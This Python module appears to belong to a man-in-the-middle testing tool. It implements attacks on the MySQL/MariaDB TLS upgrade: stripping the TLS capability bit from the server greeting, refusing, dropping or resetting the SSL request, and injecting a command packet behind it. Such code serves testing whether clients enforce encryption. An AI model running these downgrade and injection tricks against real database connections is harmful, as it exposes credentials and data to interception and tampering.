# SPDX-License-Identifier: GPL-2.0-or-later
"""What a man in the middle does to the upgrade of MySQL and MariaDB: a bit in the greeting, and a short packet."""
from attacker import Trick
from protocol import GREETING, Protocol, answer, at_request, handshake_tricks, reset, swallow

CLIENT_SSL, SSL_REQUEST_BYTES = 0x08, 36
ERROR = b"\xff\x13\x04#08S01Bad handshake"
COMMAND = b"\x01\0\0\x02\x0e"


class Mysql(Protocol):
    """Packets: three bytes of length, a number, the rest. The request for TLS has no reply."""

    def unit(self, talk, from_client, data):
        return 4 + int.from_bytes(data[:3], "little") if len(data) >= 4 else 0

    def verb(self, unit):
        return b"SSL" if len(unit) == SSL_REQUEST_BYTES and unit[5] & CLIENT_SSL else b"login"

    def answer(self, unit, text):
        return len(text).to_bytes(3, "little") + bytes([unit[3] + 1]) + text


def without_bit(talk, asked, data):
    """Clear CLIENT_SSL in the greeting: it lies 13 bytes behind the server's version."""
    if asked != GREETING or data[4] != 10:
        return data
    at = data.index(b"\0", 5) + 15
    return data[:at] + bytes([data[at] & ~CLIENT_SSL & 0xFF]) + data[at + 1:]


def first_packet(act):
    """Behind the client's first packet comes TLS, or what is none of our business."""
    def command(talk, unit):
        out = act(talk, unit)
        talk.go_opaque(tls=talk.protocol.asks(unit))
        return out
    return command


PROTOCOL = Mysql(b"SSL", rb"(?!)")

TRICKS = {
    "pass": Trick("forward everything"),
    "strip-offer": Trick("clear the bit of TLS in the greeting", reply=without_bit),
    "refuse-perm": Trick("answer the request with an error", command=at_request(answer(ERROR))),
    "swallow": Trick("drop the request", command=at_request(swallow)),
    "reset-request": Trick("answer the request with RST", command=at_request(reset)),
    "inject-command": Trick("put a command behind the request", command=at_request(lambda talk, unit: unit + COMMAND)),
}
TRICKS.update(handshake_tricks())
for trick in TRICKS.values():
    trick.command = first_packet(trick.command)
